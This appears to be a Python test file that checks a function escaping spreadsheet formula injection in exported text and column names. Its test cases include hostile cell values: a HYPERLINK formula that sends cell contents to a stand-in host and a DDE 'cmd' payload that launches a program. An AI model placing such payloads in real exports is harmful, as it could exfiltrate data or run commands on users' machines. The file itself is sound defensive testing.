"""A text of a caller never runs in a spreadsheet."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from csserv.outputs.formats.spreadsheet_text import STARTS, shown_text, shown_texts


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://x/?"&C2)', '\'=HYPERLINK("http://x/?"&C2)'),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # a wide equals sign
        ("-3.5", "-3.5"),
        ("+254 20 000", "'+254 20 000"),
        ("Côte d'Ivoire", "Côte d'Ivoire"),
        ("", ""),
    ],
)
def test_a_formula_is_marked_and_nothing_else(text: str, shown: str):
    assert shown_text(text) == shown


@given(st.text())
def test_no_text_starts_as_a_formula_unless_it_is_a_number(text: str):
    shown = shown_text(text)
    assert shown.removeprefix("'") == text.removeprefix("'")
    if shown.startswith(STARTS):
        float(shown)


def test_texts_and_names_of_columns_are_marked_and_numbers_kept():
    frame = pd.DataFrame({"zone": ["=1", "b", ""], "=x": [1.0, -2.0, 3.0]})
    shown = shown_texts(frame)
    assert list(shown.columns) == ["zone", "'=x"]
    assert shown["zone"].tolist() == ["'=1", "b", ""]
    assert shown["'=x"].tolist() == [1.0, -2.0, 3.0]
